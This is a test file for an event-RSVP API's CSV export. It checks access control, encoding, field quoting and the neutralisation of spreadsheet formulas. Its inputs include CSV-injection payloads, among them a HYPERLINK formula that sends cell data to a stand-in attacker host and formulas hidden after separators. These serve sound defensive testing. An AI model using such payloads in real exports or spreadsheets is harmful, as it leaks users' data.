import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MESSAGES } from '../../src/shared/messages.js';
import { RSVP_CSV_COLUMNS, type RsvpRecord } from '../../src/shared/rsvps-model.js';
import { RSVPS } from '../../src/rsvps/repository.js';
import { rsvpRecord } from '../mail/helpers.js';
import { createTestApi, createTestEvent, type TestApi } from '../support/api.js';

let api: TestApi;
beforeAll(async () => {
  api = await createTestApi();
});
afterAll(() => api.close());

const exportOf = (eventIdOrSlug: string, who: 'admin' | 'staff' = 'admin') =>
  api.request.get(`/api/events/${eventIdOrSlug}/rsvps.csv`).set(api.bearer(who));

/** The export's text after its byte-order mark (supertest decodes text/* as UTF-8 and keeps the mark). */
const csvText = (response: { text: string }) => {
  expect(response.text.charCodeAt(0)).toBe(0xfeff);
  return response.text.slice(1);
};

/** The five self-service columns (issue 25 item 6) of an RSVP never cancelled nor transferred. */
const NO_SELF_SERVICE = ['', '', '', '', ''];
const NO_SELF_SERVICE_TAIL = ',"","","","",""';

/** A CSV line of these cells, every one quoted (RFC 4180: a quote inside is doubled). */
const quotedLine = (cells: string[]) => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',');

let seq = 0;
async function storeRsvp(eventId: string, fields: Partial<RsvpRecord>, id = `csv-rsvp-${String(++seq).padStart(3, '0')}`) {
  await api.deps.store.set(RSVPS, id, rsvpRecord(eventId, { createdAt: `2026-11-20T0${seq % 10}:00:00.000Z`, ...fields }));
  return id;
}

describe('GET /events/{id}/rsvps.csv', () => {
  it('is admins only: 401 without a token, 403 for staff, 404 for an unknown event', async () => {
    const event = await createTestEvent(api);
    expect((await api.request.get(`/api/events/${event.id}/rsvps.csv`)).status).toBe(401);
    expect((await exportOf(event.id, 'staff')).status).toBe(403);
    const unknown = await api.request.get('/api/events/no-such-event/rsvps.csv').set(api.bearer('admin'));
    expect(unknown.status).toBe(404);
    expect(unknown.body).toEqual({ success: false, code: 'EVENT_NOT_FOUND', message: MESSAGES.eventNotFound });
  });

  it('is UTF-8 CSV with a byte-order mark, saved as <custom URL>-rsvps.csv, with the table’s columns', async () => {
    const event = await createTestEvent(api, { customUrl: 'csv-night' });
    const id = await storeRsvp(event.id, { name: 'Zoë Ångström-Núñez', email: 'zoe@example.org', createdAt: '2026-11-20T00:00:00.000Z' });

    const response = await exportOf('csv-night');

    expect(response.status).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="csv-night-rsvps.csv"');
    // The first bytes on the wire are UTF-8's byte-order mark.
    expect([...Buffer.from(response.text, 'utf8').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csvText(response)).toBe(
      `${quotedLine([...RSVP_CSV_COLUMNS])}\r\n` +
        // 00:00 UTC is 17:00 the day before in Denver (the organisation's zone). Every field quoted, empty ones too.
        `${quotedLine(['Zoë Ångström-Núñez', 'zoe@example.org', '', '', '', '', 'General', 'confirmed', 'free', '0.00', '2026-11-19 17:00', 'No', '', '', id, ...NO_SELF_SERVICE])}\r\n`,
    );
  });

  it('names the file by id when the event has no custom URL', async () => {
    const event = await createTestEvent(api);
    expect((await exportOf(event.id)).headers['content-disposition']).toBe(`attachment; filename="${event.id}-rsvps.csv"`);
  });

  it('quotes every field, and neutralises text a spreadsheet would run as a formula, at the start of a cell or after a separator', async () => {
    const event = await createTestEvent(api);
    // A name as typed, and its cell in the file.
    const cases: [name: string, cell: string][] = [
      ['Doe, "Jane"', '"Doe, ""Jane"""'],
      ['Line one\nline two', '"Line one\nline two"'],
      ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
      ['+1 555 0100', `"'+1 555 0100"`],
      ['-2+3', `"'-2+3"`],
      ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
      ['\uFF1D1+1', `"'\uFF1D1+1"`],
      // Issue 23 item 11: where ';' is the list separator, '=1+1' was a cell of its own, a live formula.
      ['Bob;=1+1;', `"Bob;'=1+1;"`],
      ['Bob,=1+1', `"Bob,'=1+1"`],
      ['Bob;-1;+2;@x', `"Bob;'-1;'+2;'@x"`],
      // A tab or CR starts a formula, and splits cells (read as tab-separated) or rows, so what follows starts a cell too.
      ['\t=1+1', `"'\t'=1+1"`],
      ['\r=1+1', `"'\r'=1+1"`],
      ['Ann\n=1+1', `"Ann\n'=1+1"`],
      // Formula characters inside text are left alone.
      ['Ada = Lovelace - 1', '"Ada = Lovelace - 1"'],
      ['Jean-Luc Picard-Crusher', '"Jean-Luc Picard-Crusher"'],
    ];
    for (const [index, [name]] of cases.entries()) await storeRsvp(event.id, { name, email: `case${index}@example.org` });

    const text = csvText(await exportOf(event.id));

    for (const [index, [name, cell]] of cases.entries()) expect(text, JSON.stringify(name)).toContain(`\r\n${cell},"case${index}@example.org",`);
    // Split at any separator a reader might use, no piece starts with a formula character.
    for (const piece of text.split(/[,;\t\r\n]/)) expect(piece.replace(/^"/, ''), JSON.stringify(piece)).not.toMatch(/^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/);
  });

  it('writes ticket ids exactly as stored, even one starting with -, never with a stray quote', async () => {
    const event = await createTestEvent(api);
    // Ids made before newId stopped starting them with '-', and others of the id alphabet, stored as they are.
    const ids = ['-Ab3_kLmN0pQrStUvWxYz1', '_underscore-first', 'plainId123'];
    for (const [index, id] of ids.entries()) await storeRsvp(event.id, { name: `Guest ${index}`, email: `guest${index}@example.org` }, id);

    const lines = csvText(await exportOf(event.id)).trim().split('\r\n').slice(1);

    expect(lines).toHaveLength(ids.length);
    for (const id of ids) expect(lines.some((line) => line.endsWith(`,"${id}"${NO_SELF_SERVICE_TAIL}`)), id).toBe(true);
    expect(lines.join('\n')).not.toContain(`"'-`);
  });

  it('writes amounts in dollars with two decimals and check-ins; keeps cancelled RSVPs, leaves out lapsed checkouts', async () => {
    const event = await createTestEvent(api);
    const paid = await storeRsvp(event.id, {
      name: 'Paid',
      paymentStatus: 'paid',
      amountPaid: 3550,
      checkedIn: true,
      checkedInAt: '2026-12-06T02:45:00.000Z',
      checkedInBy: 'door@example.org',
    });
    const cancelled = await storeRsvp(event.id, { name: 'Cancelled', status: 'cancelled', paymentStatus: 'refunded', amountPaid: 1000, amountRefunded: 1000 });
    await storeRsvp(event.id, { name: 'Lapsed', status: 'released', paymentStatus: 'pending' });

    const lines = csvText(await exportOf(event.id)).trim().split('\r\n');

    expect(lines).toHaveLength(3);
    expect(lines[1]).toMatch(new RegExp(`^"Paid","alex@example.org","","","","","General","confirmed","paid","35.50","[^"]+","Yes","2026-12-05 19:45","","${paid}"${NO_SELF_SERVICE_TAIL}$`));
    expect(lines[2]).toMatch(new RegExp(`^"Cancelled","alex@example.org","","","","","General","cancelled","refunded","10.00","[^"]+","No","","","${cancelled}","","Admin","","",""$`));
    // A cancel stored before issue 25 recorded who did it was an admin's: only admins could cancel then.
  });

  it('carries every field the registration form collects: address, city, state, ZIP code and additional information (issue 24 item 2)', async () => {
    const event = await createTestEvent(api);
    const id = await storeRsvp(event.id, {
      name: 'Full Form',
      address: '12 Canyon Rd, Apt "B"',
      city: 'Santa Fe',
      state: 'NM',
      zipCode: '87501',
      additionalInfo: 'Wheelchair access, please.\nArriving late.',
      createdAt: '2026-11-20T00:00:00.000Z',
    });
    const formula = await storeRsvp(event.id, { name: 'Formula', city: '=cmd', additionalInfo: '+1 guest;=2' });

    const lines = csvText(await exportOf(event.id)).split('\r\n');

    expect(RSVP_CSV_COLUMNS).toEqual(expect.arrayContaining(['Address', 'City', 'State', 'ZIP code', 'Additional information']));
    expect(lines[0]).toBe(quotedLine([...RSVP_CSV_COLUMNS]));
    // Quoted like every field: the comma, the doubled quote and the line break stay inside their cells.
    expect(lines).toContain(
      quotedLine([
        'Full Form', 'alex@example.org', '12 Canyon Rd, Apt "B"', 'Santa Fe', 'NM', '87501', 'General', 'confirmed', 'free', '0.00',
        '2026-11-19 17:00', 'No', '', 'Wheelchair access, please.\nArriving late.', id, ...NO_SELF_SERVICE,
      ]),
    );
    // The new text columns are neutralised like the name.
    const formulaLine = lines.find((line) => line.endsWith(`"${formula}"${NO_SELF_SERVICE_TAIL}`));
    expect(formulaLine).toMatch(/^"Formula","alex@example\.org","","'=cmd","","",/);
    expect(formulaLine).toContain(`,"'+1 guest;'=2","${formula}"${NO_SELF_SERVICE_TAIL}`);
  });

  it('ends with who cancelled and when, and whom a ticket was given to or received from, in the org time zone and neutralised (issue 25 item 6)', async () => {
    const event = await createTestEvent(api);
    expect(RSVP_CSV_COLUMNS.slice(-5)).toEqual(['Cancelled At', 'Cancelled By', 'Transferred To', 'Transferred From', 'Transferred At']);
    const selfCancelled = await storeRsvp(event.id, {
      name: 'Self Cancel',
      status: 'cancelled',
      cancelledAt: '2026-11-21T03:15:00.000Z',
      cancelledBy: 'attendee',
    });
    const adminCancelled = await storeRsvp(event.id, { name: 'Admin Cancel', status: 'cancelled', cancelledAt: '2026-11-22T18:00:00.000Z', cancelledBy: 'admin' });
    // The old ticket of a transfer to someone whose name starts a formula, and the new holder's ticket.
    const given = await storeRsvp(event.id, {
      name: 'Old Holder',
      status: 'cancelled',
      cancelledAt: '2026-11-23T16:30:00.000Z',
      cancelledBy: 'attendee',
      transferredTo: { id: 'newTicket1', name: '=Evil Name' },
      transferredAt: '2026-11-23T16:30:00.000Z',
    });
    const received = await storeRsvp(event.id, {
      name: '=Evil Name',
      transferredFrom: { id: given, name: 'Old Holder' },
      transferredAt: '2026-11-23T16:30:00.000Z',
    });

    const lines = csvText(await exportOf(event.id)).trim().split('\r\n');
    const lineOf = (id: string) => lines.find((line) => line.includes(`,"${id}",`))!;

    // Denver is UTC-7 in November.
    expect(lineOf(selfCancelled)).toMatch(new RegExp(`,"${selfCancelled}","2026-11-20 20:15","Attendee","","",""$`));
    expect(lineOf(adminCancelled)).toMatch(new RegExp(`,"${adminCancelled}","2026-11-22 11:00","Admin","","",""$`));
    expect(lineOf(given)).toMatch(new RegExp(`,"${given}","2026-11-23 09:30","Attendee","'=Evil Name \\(newTicket1\\)","","2026-11-23 09:30"$`));
    expect(lineOf(received)).toMatch(new RegExp(`^"'=Evil Name",.*,"${received}","","","","Old Holder \\(${given}\\)","2026-11-23 09:30"$`));
  });
});
